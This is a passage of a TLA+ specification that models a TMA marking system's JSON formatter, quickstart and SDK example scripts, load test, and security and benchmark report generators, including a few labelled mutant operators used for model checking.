    @@ ("x9" :> <<"x", "9">>)
    @@ ("B+" :> <<"B", "+">>)
    @@ ("" :> <<>>)
    @@ ("2024" :> <<"2", "0", "2", "4">>)
    @@ ("Good work" :> <<"G", "o", "o", "d", " ", "w", "o", "r", "k">>)
    @@ ("clear" :> <<"c", "l", "e", "a", "r">>)
    @@ ("say \"hi\"" :> <<"s", "a", "y", " ", "\"", "h", "i", "\"">>)
    @@ ("a\\b" :> <<"a", "\\", "b">>)
    @@ ("a\nb" :> <<"a", "\n", "b">>)
    @@ ("tma_id" :> <<"t", "m", "a", "_", "i", "d">>)
    @@ ("student_id" :> <<"s", "t", "u", "d", "e", "n", "t", "_", "i", "d">>)
    @@ ("score" :> <<"s", "c", "o", "r", "e">>)
    @@ ("grade" :> <<"g", "r", "a", "d", "e">>)
    @@ ("marked_at" :> <<"m", "a", "r", "k", "e", "d", "_", "a", "t">>)
    @@ ("feedback" :> <<"f", "e", "e", "d", "b", "a", "c", "k">>)
    @@ ("summary" :> <<"s", "u", "m", "m", "a", "r", "y">>)
    @@ ("strengths" :> <<"s", "t", "r", "e", "n", "g", "t", "h", "s">>)
    @@ ("areas_for_improvement" :> <<"a", "r", "e", "a", "s", "_", "f", "o", "r", "_", "i", "m", "p", "r", "o", "v", "e", "m", "e", "n", "t">>)

StringKeys == {"tma_id", "student_id", "grade", "marked_at", "summary"}
ListKeys == {"strengths", "areas_for_improvement", "detailed_comments"}
\* the order in which the keys were inserted into the dicts
ResultKeyOrder == <<"tma_id", "student_id", "score", "grade", "marked_at", "feedback">>
FeedbackKeyOrder == <<"summary", "strengths", "areas_for_improvement">>

DigitChars == <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9">>

RECURSIVE JsonDigits(_)
\* an int as json.dumps writes it (n >= 0)
JsonDigits(n) ==
    IF n < 10 THEN <<DigitChars[n + 1]>>
    ELSE JsonDigits(n \div 10) \o <<DigitChars[(n % 10) + 1]>>

RECURSIVE JsonEscape_backslash_kept(_)
\* mutant: a backslash is written as it is
JsonEscape_backslash_kept(cs) ==
    IF cs = <<>> THEN <<>>
    ELSE (IF Head(cs) = "\"" THEN <<"\\", "\"">>
          ELSE IF Head(cs) = "\n" THEN <<"\\", "n">>
          ELSE <<Head(cs)>>)
         \o JsonEscape_backslash_kept(Tail(cs))

RECURSIVE JsonEscape(_)
\* the body of a JSON string: quote, backslash and newline are escaped
JsonEscape(cs) ==
    IF cs = <<>> THEN <<>>
    ELSE (IF Head(cs) = "\"" THEN <<"\\", "\"">>
          ELSE IF Head(cs) = "\\" THEN <<"\\", "\\">>
          ELSE IF Head(cs) = "\n" THEN <<"\\", "n">>
          ELSE <<Head(cs)>>)
         \o JsonEscape(Tail(cs))

JsonString(str) == <<"\"">> \o JsonEscape(Chars[str]) \o <<"\"">>

\* indent=2: a newline and two spaces per level
NewLine(depth) == <<"\n">> \o [i \in 1..(2 * depth) |-> " "]

RECURSIVE JsonItems(_, _)
JsonItems(items, depth) ==
    NewLine(depth) \o JsonString(Head(items))
    \o (IF Len(items) > 1 THEN <<",">> \o JsonItems(Tail(items), depth) ELSE <<>>)

\* a list of strings, its items at level depth + 1
JsonList(items, depth) ==
    IF items = <<>> THEN <<"[", "]">>
    ELSE <<"[">> \o JsonItems(items, depth + 1) \o NewLine(depth) \o <<"]">>

RECURSIVE JsonObject(_, _, _)
RECURSIVE JsonMembers(_, _, _)
\* the value of key k, written according to what it is
JsonValue(k, v, depth) ==
    IF k \in StringKeys THEN JsonString(v)
    ELSE IF k \in ListKeys THEN JsonList(v, depth)
    ELSE IF k = "feedback" THEN JsonObject(v, FeedbackKeyOrder, depth)
    ELSE JsonDigits(v)

JsonMembers(d, keys, depth) ==
    NewLine(depth) \o JsonString(Head(keys)) \o <<":", " ">>
    \o JsonValue(Head(keys), d[Head(keys)], depth)
    \o (IF Len(keys) > 1 THEN <<",">> \o JsonMembers(d, Tail(keys), depth) ELSE <<>>)

JsonObject(d, order, depth) ==
    LET keys == SelectSeq(order, LAMBDA k : k \in DOMAIN d) IN
    IF keys = <<>> THEN <<"{", "}">>
    ELSE <<"{">> \o JsonMembers(d, keys, depth + 1) \o NewLine(depth) \o <<"}">>

\* _format_json, line 179
FormatJson(results) == JsonObject(results, ResultKeyOrder, 0)

\* json.loads: a recursive-descent reader of the text t from position i,
\* giving the value read and the position after it
At(t, i) == IF i \in 1..Len(t) THEN t[i] ELSE "<eof>"

RECURSIVE SkipWs(_, _)
SkipWs(t, i) == IF At(t, i) \in {" ", "\n"} THEN SkipWs(t, i + 1) ELSE i

\* the string whose characters are cs
StringOf(cs) ==
    IF \E str \in DOMAIN Chars : Chars[str] = cs
    THEN CHOOSE str \in DOMAIN Chars : Chars[str] = cs
    ELSE "<unknown string>"

RECURSIVE ReadChars(_, _, _)
ReadChars(t, i, acc) ==
    IF At(t, i) \in {"\"", "<eof>"} THEN [v |-> StringOf(acc), i |-> i + 1]
    ELSE IF At(t, i) = "\\"
    THEN ReadChars(t, i + 2, Append(acc, IF At(t, i + 1) = "n" THEN "\n" ELSE At(t, i + 1)))
    ELSE ReadChars(t, i + 1, Append(acc, At(t, i)))

DigitValue(c) == CHOOSE n \in 0..9 : DigitChars[n + 1] = c
IsDigit(c) == \E n \in 0..9 : DigitChars[n + 1] = c

RECURSIVE ReadDigits(_, _, _)
ReadDigits(t, i, acc) ==
    IF IsDigit(At(t, i)) THEN ReadDigits(t, i + 1, acc * 10 + DigitValue(At(t, i)))
    ELSE [v |-> acc, i |-> i]

RECURSIVE ReadValue(_, _)
RECURSIVE ReadItems(_, _, _)
RECURSIVE ReadMembers(_, _, _)

ReadItems(t, i, acc) ==
    LET e == ReadValue(t, i)
        k == SkipWs(t, e.i)
    IN  IF At(t, k) = "," THEN ReadItems(t, k + 1, Append(acc, e.v))
        ELSE [v |-> Append(acc, e.v), i |-> k + 1]

ReadMembers(t, i, acc) ==
    LET key == ReadChars(t, SkipWs(t, i) + 1, <<>>)
        e == ReadValue(t, SkipWs(t, key.i) + 1)
        k == SkipWs(t, e.i)
        d == (key.v :> e.v) @@ acc
    IN  IF At(t, k) = "," THEN ReadMembers(t, k + 1, d)
        ELSE [v |-> d, i |-> k + 1]

ReadValue(t, i) ==
    LET j == SkipWs(t, i) IN
    IF At(t, j) = "\"" THEN ReadChars(t, j + 1, <<>>)
    ELSE IF At(t, j) = "["
    THEN IF At(t, SkipWs(t, j + 1)) = "]"
         THEN [v |-> <<>>, i |-> SkipWs(t, j + 1) + 1]
         ELSE ReadItems(t, j + 1, <<>>)
    ELSE IF At(t, j) = "{"
    THEN IF At(t, SkipWs(t, j + 1)) = "}"
         THEN [v |-> <<>>, i |-> SkipWs(t, j + 1) + 1]
         ELSE ReadMembers(t, j + 1, <<>>)
    ELSE ReadDigits(t, j, 0)

JsonLoads(t) == ReadValue(t, 1).v

(***************************************************************************)
(* The plugin object                                                       *)
(***************************************************************************)
\* what the formatter named name makes of results: the exception it raises,
\* or the text it returns
Apply(name, results) ==
    IF name = "json" THEN [exc |-> "none", out |-> FormatJson(results)]
    ELSE IF TextRaises(results) THEN [exc |-> "KeyError", out |-> <<>>]
    ELSE IF name = "html" THEN [exc |-> "none", out |-> FormatHtml(results)]
    ELSE IF name = "latex" THEN [exc |-> "none", out |-> FormatLatex(results)]
    ELSE IF name = "plain" THEN [exc |-> "none", out |-> FormatPlain(results)]
    ELSE [exc |-> "none", out |-> FormatMarkdown(results)]

\* __init__, lines 14-16
NewPlugin ==
    /\ Quiet
    /\ \E config \in PluginConfigs :
           plugin' = [NoPlugin EXCEPT !.pc = "ready", !.config = config,
                                      !.format_type = FormatTypeOf(config)]
    /\ UNCHANGED <<clientvars, quick, example, locust, secrep, bench, fuzz>>

\* format_feedback, lines 18-30; after is the results dict as the call leaves it
FormatFeedback ==
    /\ plugin.pc \in {"ready", "formatted"}
    /\ \E results \in FormatterInputs :
           LET r == Apply(FormatterFor(plugin.format_type), results) IN
           plugin' = [plugin EXCEPT !.pc = "formatted", !.results = <<results>>,
                                    !.after = <<results>>, !.exc = r.exc, !.out = r.out]
    /\ UNCHANGED <<clientvars, quick, example, locust, secrep, bench, fuzz>>

\* the plugin object is dropped
DropPlugin ==
    /\ plugin.pc \in {"ready", "formatted"}
    /\ plugin' = NoPlugin
    /\ UNCHANGED <<clientvars, quick, example, locust, secrep, bench, fuzz>>

(***************************************************************************)
(* The quickstart script (examples/quickstart/mark_single_tma.py)          *)
(***************************************************************************)
\* the script is not running
NoQuick ==
    [pc |-> "none", tma_id |-> None, job_id |-> None, elapsed |-> 0, reqs |-> <<>>,
     status |-> None, exit |-> NoInt, stderr |-> "", saved |-> FALSE]

\* what sys.argv[1] is: absent, or a path of one of the kinds
QuickArgs == {"no argument"} \cup FileKinds

\* requests.post / requests.get are called without timeout=: the call returns
\* with one of these, or never returns
QuickResponses(bodies) == {r \in Responses(bodies) : r.dur = 0}

\* print_error(message); sys.exit(1)
QuickExit(q, message) == [q EXCEPT !.pc = "exited", !.exit = <<1>>, !.stderr = message]

\* the handlers of main (lines 181-186) for an exception raised in a step
RequestFailed(q) == QuickExit(q, "API request failed")
Unexpected(q) == QuickExit(q, "Unexpected error")

\* the call blocks for ever
Blocked(q) == [q EXCEPT !.pc = "blocked"]

\* what one requests.post / requests.get followed by raise_for_status() and
\* .json() ends in: the call never returns, an exception, or the parsed body
QuickOutcomes(bodies) ==
    {[blocked |-> TRUE, failed |-> FALSE, body |-> NoData]}
    \cup {[blocked |-> FALSE, failed |-> RequestRaises(resp) \/ ~resp.json,
           body |-> resp.body] : resp \in QuickResponses(bodies)}

\* the script with the request on its list of requests
Sent(q, kind, id, o) == [q EXCEPT !.reqs = Issue(@, kind, id, o.failed)]

\* the script after the request: next is where it goes on with the body
QuickRequest(sent, o, next) ==
    IF o.blocked THEN Blocked(sent)
    ELSE IF o.failed THEN RequestFailed(sent)
    ELSE next

\* main, lines 161-173
QuickMain ==
    /\ Quiet
    /\ \E arg \in QuickArgs :
           quick' = IF arg = "no argument" THEN QuickExit(NoQuick, "Usage")
                    ELSE IF arg # "regular" THEN QuickExit(NoQuick, "TMA file not found")
                    ELSE [NoQuick EXCEPT !.pc = "upload"]
    /\ UNCHANGED <<clientvars, plugin, example, locust, secrep, bench, fuzz>>

\* upload_tma, lines 42-68
AfterUpload(q, body) ==
    LET t == Get(body, "tma_id", None) IN
    IF ~Truthy(t) THEN Unexpected(q)
    ELSE [q EXCEPT !.tma_id = t, !.pc = "submit"]

QuickUpload ==
    /\ quick.pc = "upload"
    /\ \E o \in QuickOutcomes(UploadBodies) :
           LET sent == Sent(quick, "upload", None, o) IN
           quick' = QuickRequest(sent, o, AfterUpload(sent, o.body))
    /\ UNCHANGED <<clientvars, plugin, example, locust, secrep, bench, fuzz>>

\* submit_for_marking, lines 71-86: job_id = result.get('job_id'); return job_id
AfterSubmit(q, body) ==
    [q EXCEPT !.job_id = Get(body, "job_id", None), !.pc = "loop"]

QuickSubmit ==
    /\ quick.pc = "submit"
    /\ \E o \in QuickOutcomes(SubmitBodies) :
           LET sent == Sent(quick, "submit", quick.tma_id, o) IN
           quick' = QuickRequest(sent, o, AfterSubmit(sent, o.body))
    /\ UNCHANGED <<clientvars, plugin, example, locust, secrep, bench, fuzz>>

\* line 94: while elapsed < TIMEOUT
LoopGoesOn(elapsed) == elapsed < TIMEOUT

\* line 94 and, when the loop ends, line 117: raise TimeoutError
QuickLoop ==
    /\ quick.pc = "loop"
    /\ quick' = IF LoopGoesOn(quick.elapsed) THEN [quick EXCEPT !.pc = "poll"]
                ELSE Unexpected(quick)
    /\ UNCHANGED <<clientvars, plugin, example, locust, secrep, bench, fuzz>>

\* lines 98-111: what the loop does with the status it polled
AfterPoll(q, body) ==
    LET st == Get(body, "status", None) IN
    IF st = "completed" THEN [q EXCEPT !.status = st, !.pc = "fetch"]
    ELSE IF st = "failed" THEN Unexpected([q EXCEPT !.status = st])
    ELSE [q EXCEPT !.status = st, !.pc = "sleep"]

\* lines 95-99
QuickPoll ==
    /\ quick.pc = "poll"
    /\ \E o \in QuickOutcomes(StatusBodies) :
           LET sent == Sent(quick, "poll", quick.job_id, o) IN
           quick' = QuickRequest(sent, o, AfterPoll(sent, o.body))
    /\ UNCHANGED <<clientvars, plugin, example, locust, secrep, bench, fuzz>>

\* lines 114-115: time.sleep(5); elapsed += 5
QuickSleeps ==
    /\ quick.pc = "sleep"
    /\ quick' = [quick EXCEPT !.elapsed = @ + QuickSleep, !.pc = "loop"]
    /\ UNCHANGED <<clientvars, plugin, example, locust, secrep, bench, fuzz>>

\* lines 105-107: the results are returned to main
AfterFetch(q, body) == [q EXCEPT !.pc = "display"]

QuickFetch ==
    /\ quick.pc = "fetch"
    /\ \E o \in QuickOutcomes(ResultBodies) :
           LET sent == Sent(quick, "fetch", quick.tma_id, o) IN
           quick' = QuickRequest(sent, o, AfterFetch(sent, o.body))
    /\ UNCHANGED <<clientvars, plugin, example, locust, secrep, bench, fuzz>>

\* display_results, lines 120-145, writes the .feedback.json file; main ends
QuickDisplay ==
    /\ quick.pc = "display"
    /\ quick' = [quick EXCEPT !.pc = "exited", !.exit = <<0>>, !.saved = TRUE]
    /\ UNCHANGED <<clientvars, plugin, example, locust, secrep, bench, fuzz>>

\* the process is gone
QuickGone ==
    /\ quick.pc = "exited"
    /\ quick' = NoQuick
    /\ UNCHANGED <<clientvars, plugin, example, locust, secrep, bench, fuzz>>

QuickNext ==
    \/ QuickMain
    \/ QuickUpload
    \/ QuickSubmit
    \/ QuickLoop
    \/ QuickPoll
    \/ QuickSleeps
    \/ QuickFetch
    \/ QuickDisplay
    \/ QuickGone

(***************************************************************************)
(* The SDK example script (examples/api/python/examples/mark_tma.py)       *)
(***************************************************************************)
\* the script is not running; net and outcome are those of its mark_tma call
NoExample ==
    [pc |-> "none", net |-> <<>>, outcome |-> "none", exit |-> NoInt, stderr |-> "",
     saved |-> FALSE]

\* mutant: an AwapError is reported and the script ends with status 0
ExampleHandler_error_exits_zero(raised) ==
    IF raised = "returned" THEN [exit |-> <<0>>, stderr |-> "", saved |-> TRUE]
    ELSE IF IsSubclass(raised, "AwapError")
    THEN [exit |-> <<0>>, stderr |-> "Error", saved |-> FALSE]
    ELSE [exit |-> <<1>>, stderr |-> "Unexpected error", saved |-> FALSE]

\* lines 47-96: after mark_tma returned the feedback file is written and main
\* ends; except AwapError / except Exception print to stderr and exit 1
ExampleHandler(raised) ==
    IF raised = "returned" THEN [exit |-> <<0>>, stderr |-> "", saved |-> TRUE]
    ELSE IF IsSubclass(raised, "AwapError")
    THEN [exit |-> <<1>>, stderr |-> "Error", saved |-> FALSE]
    ELSE [exit |-> <<1>>, stderr |-> "Unexpected error", saved |-> FALSE]

\* lines 19-21: no argument, usage on stdout and exit 1
ExampleUsage ==
    /\ Quiet
    /\ example' = [NoExample EXCEPT !.pc = "exited", !.exit = <<1>>]
    /\ UNCHANGED <<clientvars, plugin, quick, locust, secrep, bench, fuzz>>

\* lines 23-45: client = AwapClient(); client.mark_tma(file_path, student_id, rubric)
ExampleMain ==
    /\ Quiet /\ Locals
    /\ example' = [NoExample EXCEPT !.pc = "running"]
    /\ op' = "mark_tma" /\ pc' = "upload"
    /\ file' \in FileKinds
    /\ student_id' \in StudentIds
    /\ wait' = TRUE
    /\ poll_interval' = DefaultPollInterval
    /\ timeout_arg' = NoInt
    /\ tma_id' = None /\ job_id' = None
    /\ UNCHANGED <<self_timeout, last_fetch, plugin, quick, locust, secrep, bench, fuzz>>

\* mark_tma returned or raised into main
ExampleEnd ==
    /\ example.pc = "running" /\ pc = "done"
    /\ LET h == ExampleHandler(outcome) IN
       example' = [pc |-> "exited", net |-> net, outcome |-> outcome, exit |-> h.exit,
                   stderr |-> h.stderr, saved |-> h.saved]
    /\ Locals /\ Returned
    /\ UNCHANGED <<plugin, quick, locust, secrep, bench, fuzz>>

\* the process is gone
ExampleGone ==
    /\ example.pc = "exited"
    /\ example' = NoExample
    /\ UNCHANGED <<clientvars, plugin, quick, locust, secrep, bench, fuzz>>

(***************************************************************************)
(* The load test's TMAWorkflow (tests/benchmarks/load_tests)               *)
(***************************************************************************)
\* no simulated user is running. round counts the submit_tma calls; issued is
\* what the submit_tma of this round obtained (None when it obtained nothing);
\* queries are the ids check_status and get_feedback asked for in this round
NoLocust ==
    [pc |-> "none", submission_id |-> None, round |-> 0, issued |-> None,
     queries |-> <<>>, verdict |-> "none"]

SubmissionIds == {"s1", "s2"}
\* with catch_response=True a transport failure is a response of status 0
LocustSubmitReplies ==
    {HttpError(c, 0) : c \in {0, 500}} \cup {NotJson(0)}
    \cup {Ok(b, 0) : b \in {[submission_id |-> i] : i \in SubmissionIds \cup {""}}
                         \cup {OtherObject}}
LocustReplies ==
    {HttpError(c, 0) : c \in {0, 202, 500}} \cup {NotJson(0)}
    \cup {Ok(b, 0) : b \in {[feedback |-> "Good work"], OtherObject}}

\* on_start, lines 70-74
LocustOnStart ==
    /\ Quiet
    /\ locust' = [NoLocust EXCEPT !.pc = "submit_tma"]
    /\ UNCHANGED <<clientvars, plugin, quick, example, secrep, bench, fuzz>>

\* lines 99-104: self.submission_id is assigned on a 200 whose body parses
SubmissionAfter(old, resp) ==
    IF resp.code = 200 /\ resp.json THEN Get(resp.body, "submission_id", None)
    ELSE old

\* what the request handed to the test: success(), failure(), or an
\* exception out of response.json()
Verdict(resp, needs) ==
    IF resp.code = 200
    THEN IF ~resp.json THEN "exception"
         ELSE IF needs = "" \/ needs \in DOMAIN resp.body THEN "success" ELSE "failure"
    ELSE IF resp.code = 202 /\ needs = "feedback" THEN "success"
    ELSE "failure"

\* submit_tma, lines 76-104
SubmitTma ==
    /\ locust.pc = "submit_tma" /\ locust.round < MaxRounds
    /\ \E resp \in LocustSubmitReplies :
           locust' = [locust EXCEPT
                         !.pc = "check_status",
                         !.round = @ + 1,
                         !.submission_id = SubmissionAfter(@, resp),
                         !.issued = IF resp.code = 200 /\ resp.json
                                    THEN Get(resp.body, "submission_id", None)
                                    ELSE None,
                         !.queries = <<>>,
                         !.verdict = Verdict(resp, "")]
    /\ UNCHANGED <<clientvars, plugin, quick, example, secrep, bench, fuzz>>

\* check_status, lines 106-120
CheckStatus ==
    /\ locust.pc = "check_status"
    /\ IF ~Truthy(locust.submission_id)
       THEN locust' = [locust EXCEPT !.pc = "get_feedback", !.verdict = "none"]
       ELSE \E resp \in LocustReplies :
                locust' = [locust EXCEPT
                              !.pc = "get_feedback",
                              !.queries = Append(@, locust.submission_id),
                              !.verdict = IF resp.code = 200 THEN "success" ELSE "failure"]
    /\ UNCHANGED <<clientvars, plugin, quick, example, secrep, bench, fuzz>>

\* get_feedback, lines 122-146
GetFeedback ==
    /\ locust.pc = "get_feedback"
    /\ IF ~Truthy(locust.submission_id)
       THEN locust' = [locust EXCEPT !.pc = "submit_tma", !.verdict = "none"]
       ELSE \E resp \in LocustReplies :
                locust' = [locust EXCEPT
                              !.pc = "submit_tma",
                              !.queries = Append(@, locust.submission_id),
                              !.verdict = Verdict(resp, "feedback")]
    /\ UNCHANGED <<clientvars, plugin, quick, example, secrep, bench, fuzz>>

\* the load test is stopped
LocustStop ==
    /\ locust.pc # "none"
    /\ locust' = NoLocust
    /\ UNCHANGED <<clientvars, plugin, quick, example, secrep, bench, fuzz>>

(***************************************************************************)
(* SecurityReportGenerator (security/reporting/generate_security_report)   *)
(***************************************************************************)
\* no generator exists. todo are the files of the running loader's glob not
\* yet visited; wellformed counts the files among them that can be read and
\* parsed, got the test results the running loader has appended
NoSecrep ==
    [pc |-> "none",
     findings |-> [critical |-> <<>>, high |-> <<>>, medium |-> <<>>, low |-> <<>>],
     test_results |-> <<>>, todo |-> {}, wellformed |-> 0, got |-> 0,
     exc |-> "none", exit |-> NoInt]

\* dependency-audit/audit_*.json: a JSON object with a summary of counts, a
\* text that is no JSON, a file gone since the glob, a file the process may
\* not read, a JSON text that is no object
AuditFile(k, c, h, t) == [kind |-> k, critical |-> c, high |-> h, total |-> t]
AuditFiles ==
    {AuditFile("json", 0, 0, 0), AuditFile("json", 1, 0, 1), AuditFile("json", 0, 2, 2),
     AuditFile("json", 0, 0, 1), AuditFile("not json", 0, 0, 0),
     AuditFile("vanished", 0, 0, 0), AuditFile("unreadable", 0, 0, 0),
     AuditFile("json list", 0, 0, 0)}

\* the text reports: name is the name of the pattern the file matches, words
\* the words of its content
TextFile(n, k, w) == [name |-> n, kind |-> k, words |-> w]
TextFiles ==
    {TextFile("License Check", "text", <<"all", "ok">>),
     TextFile("Secret Scan", "text", <<"[VIOLATION]", "CRITICAL", "key">>),
     TextFile("XSS Test", "text", <<"[VULNERABLE]", "[VIOLATION]", "HIGH">>),
     TextFile("SQL Injection Test", "text", <<"[VIOLATION]", "input">>),
     TextFile("Auth Bypass Test", "text", <<"2", "tests", "FAILED">>),
     TextFile("Audit Trail Verification", "vanished", <<>>),
     TextFile("Network Isolation Test", "unreadable", <<>>)}

\* the exception open() / read() / json.load() / data.get() raises for a file
\* of this kind
FileRaises(kind) ==
    IF kind = "not json" THEN "JSONDecodeError"
    ELSE IF kind = "vanished" THEN "FileNotFoundError"
    ELSE IF kind = "unreadable" THEN "PermissionError"
    ELSE IF kind = "json list" THEN "AttributeError"
    ELSE "none"

\* the words of which word w is a substring
Superstrings(w) ==
    IF w = "FAIL" THEN {"FAIL", "FAILED"}
    ELSE IF w = "VIOLATION" THEN {"VIOLATION", "[VIOLATION]"}
    ELSE IF w = "VULNERABLE" THEN {"VULNERABLE", "[VULNERABLE]"}
    ELSE {w}

\* w in content
Contains(words, w) == \E i \in DOMAIN words : words[i] \in Superstrings(w)
\* content.count(w)
Count(words, w) == Cardinality({i \in DOMAIN words : words[i] \in Superstrings(w)})

\* [x] * n
Repeat(x, n) == [i \in 1..n |-> x]

\* __init__ (lines 24-33), called by main (line 313)
SecNew ==
    /\ Quiet
    /\ secrep' = [NoSecrep EXCEPT !.pc = "ready"]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, bench, fuzz>>

\* load_dependency_audit is called: the glob finds these files
SecLoadDependencyAudit ==
    /\ secrep.pc = "ready"
    /\ \E files \in SUBSET AuditFiles :
           /\ Cardinality(files) <= MaxFiles
           /\ Len(secrep.test_results) + Cardinality(files) <= MaxTests
           /\ secrep' = [secrep EXCEPT
                            !.pc = "audit", !.todo = files, !.got = 0,
                            !.wellformed = Cardinality({f \in files : f.kind = "json"})]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, bench, fuzz>>

\* except (json.JSONDecodeError, FileNotFoundError): pass
AuditSkips == {"JSONDecodeError", "FileNotFoundError"}

\* line 51
AuditStatus(total) == IF total > 0 THEN "FAIL" ELSE "PASS"

\* lines 38-55: one round of the for loop
SecAuditFile ==
    /\ secrep.pc = "audit"
    /\ \E f \in secrep.todo :
           LET e == FileRaises(f.kind) IN
           secrep' =
               IF e = "none"
               THEN [secrep EXCEPT
                        !.todo = @ \ {f},
                        !.findings.critical =
                            @ \o Repeat("Dependency vulnerability (critical)", f.critical),
                        !.findings.high =
                            @ \o Repeat("Dependency vulnerability (high)", f.high),
                        !.test_results = Append(@, AuditStatus(f.total)),
                        !.got = @ + 1]
               ELSE IF e \in AuditSkips THEN [secrep EXCEPT !.todo = @ \ {f}]
               ELSE [secrep EXCEPT !.pc = "crashed", !.exc = e]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, bench, fuzz>>

\* load_text_reports is called: the globs find these files
SecLoadTextReports ==
    /\ secrep.pc = "ready"
    /\ \E files \in SUBSET TextFiles :
           /\ Cardinality(files) <= MaxFiles
           /\ Len(secrep.test_results) + Cardinality(files) <= MaxTests
           /\ secrep' = [secrep EXCEPT
                            !.pc = "text", !.todo = files, !.got = 0,
                            !.wellformed = Cardinality({f \in files : f.kind = "text"})]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, bench, fuzz>>

\* except FileNotFoundError: pass
TextSkips == {"FileNotFoundError"}

\* lines 80-92: status of a text report
TextStatus(words) ==
    IF Contains(words, "FAIL") \/ Contains(words, "VIOLATION")
           \/ Contains(words, "VULNERABLE")
    THEN "FAIL" ELSE "PASS"

\* lines 83-90: the findings list a text report adds an entry to, or "none"
TextSeverity(words) ==
    IF TextStatus(words) = "FAIL"
           /\ Count(words, "[VIOLATION]") + Count(words, "[VULNERABLE]") > 0
    THEN IF Contains(words, "CRITICAL") THEN "critical"
         ELSE IF Contains(words, "HIGH") THEN "high"
         ELSE "medium"
    ELSE "none"

\* lines 74-100: one round of the inner for loop
SecTextFile ==
    /\ secrep.pc = "text"
    /\ \E f \in secrep.todo :
           LET e == FileRaises(f.kind)
               sev == TextSeverity(f.words)
               found == IF sev = "none" THEN secrep.findings
                        ELSE [secrep.findings EXCEPT ![sev] = Append(@, f.name)]
           IN
           secrep' =
               IF e = "none"
               THEN [secrep EXCEPT
                        !.todo = @ \ {f},
                        !.findings = found,
                        !.test_results = Append(@, TextStatus(f.words)),
                        !.got = @ + 1]
               ELSE IF e \in TextSkips THEN [secrep EXCEPT !.todo = @ \ {f}]
               ELSE [secrep EXCEPT !.pc = "crashed", !.exc = e]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, bench, fuzz>>

\* the loader has visited every file and returns
SecLoaded ==
    /\ secrep.pc \in {"audit", "text"} /\ secrep.todo = {}
    /\ secrep' = [secrep EXCEPT !.pc = "ready"]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, bench, fuzz>>

\* sum(1 for r in self.test_results if r["status"] == "PASS")
Passed(results) == Cardinality({i \in DOMAIN results : results[i] = "PASS"})

RECURSIVE SumLen(_, _)
\* sum(len(v) for v in findings.values()) over the keys in keys
SumLen(findings, keys) ==
    IF keys = {} THEN 0
    ELSE LET k == CHOOSE k \in keys : TRUE IN
         Len(findings[k]) + SumLen(findings, keys \ {k})

\* round(x, 2) of the percentage, in hundredths of a percent
PassRate(passed, total) ==
    IF total > 0 THEN (2 * passed * 10000 + total) \div (2 * total) ELSE 0

\* mutant: total_findings leaves the medium findings out
GenerateSummary_no_medium(gen) ==
    LET total_tests == Len(gen.test_results)
        passed == Passed(gen.test_results)
    IN  [total_tests |-> total_tests,
         tests_passed |-> passed,
         tests_failed |-> total_tests - passed,
         pass_rate |-> PassRate(passed, total_tests),
         critical_findings |-> Len(gen.findings.critical),
         high_findings |-> Len(gen.findings.high),
         medium_findings |-> Len(gen.findings.medium),
         low_findings |-> Len(gen.findings.low),
         total_findings |-> SumLen(gen.findings, DOMAIN gen.findings \ {"medium"})]

\* generate_summary, lines 102-121
GenerateSummary(gen) ==
    LET total_tests == Len(gen.test_results)
        passed == Passed(gen.test_results)
    IN  [total_tests |-> total_tests,
         tests_passed |-> passed,
         tests_failed |-> total_tests - passed,
         pass_rate |-> PassRate(passed, total_tests),
         critical_findings |-> Len(gen.findings.critical),
         high_findings |-> Len(gen.findings.high),
         medium_findings |-> Len(gen.findings.medium),
         low_findings |-> Len(gen.findings.low),
         total_findings |-> SumLen(gen.findings, DOMAIN gen.findings)]

\* lines 300-308: the code print_console_report returns
ConsoleCode(summary) ==
    IF summary.critical_findings > 0 \/ summary.high_findings > 0 THEN 1
    ELSE IF summary.total_findings > 0 THEN 2
    ELSE 0

\* print_console_report, then sys.exit(exit_code) (lines 327-329)
SecPrintConsoleReport ==
    /\ secrep.pc = "ready"
    /\ secrep' = [secrep EXCEPT !.pc = "exited",
                                !.exit = <<ConsoleCode(GenerateSummary(secrep))>>]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, bench, fuzz>>

\* the process is gone, after sys.exit or the traceback of an exception
SecGone ==
    /\ secrep.pc \in {"exited", "crashed"}
    /\ secrep' = NoSecrep
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, bench, fuzz>>

SecNext ==
    \/ SecNew
    \/ SecLoadDependencyAudit
    \/ SecAuditFile
    \/ SecLoadTextReports
    \/ SecTextFile
    \/ SecLoaded
    \/ SecPrintConsoleReport
    \/ SecGone

(***************************************************************************)
(* BenchmarkReportGenerator (tests/benchmarks/generate_report.py)          *)
(***************************************************************************)
\* no generator exists. results are the keys of self.results, integration the
\* keys of the local integration_results; todo, wellformed and got as above
NoBench ==
    [pc |-> "none", results |-> {}, hardware_info |-> FALSE, integration |-> {},
     todo |-> {}, wellformed |-> 0, got |-> 0, exc |-> "none"]

\* integration/*.json: benchmark is the value of the key "benchmark", None
\* when the object has no such key
IntegrationFile(st, k, b) == [stem |-> st, kind |-> k, benchmark |-> b]
IntegrationFiles ==
    {IntegrationFile("upload", "json", "upload"), IntegrationFile("run2", "json", None),
     IntegrationFile("mark", "json", "marking"), IntegrationFile("broken", "not json", None),
     IntegrationFile("locked", "unreadable", None),
     IntegrationFile("array", "json list", None)}

\* hardware_info.json: absent, or a file of one of these kinds
HardwareInfoFiles == {"absent", "json", "not json", "unreadable"}

\* __init__, lines 19-23
BenchNew ==
    /\ Quiet
    /\ bench' = [NoBench EXCEPT !.pc = "ready"]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, fuzz>>

\* load_hardware_info, lines 25-30
BenchLoadHardwareInfo ==
    /\ bench.pc = "ready" /\ ~bench.hardware_info
    /\ \E f \in HardwareInfoFiles :
           bench' = IF f = "absent" THEN bench
                    ELSE IF FileRaises(f) = "none"
                    THEN [bench EXCEPT !.hardware_info = TRUE]
                    ELSE [bench EXCEPT !.pc = "crashed", !.exc = FileRaises(f)]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, fuzz>>

\* parse_integration_results is called (lines 93-99), the integration
\* directory exists and the glob finds these files
BenchParseIntegrationResults ==
    /\ bench.pc = "ready" /\ "integration" \notin bench.results
    /\ \E files \in SUBSET IntegrationFiles :
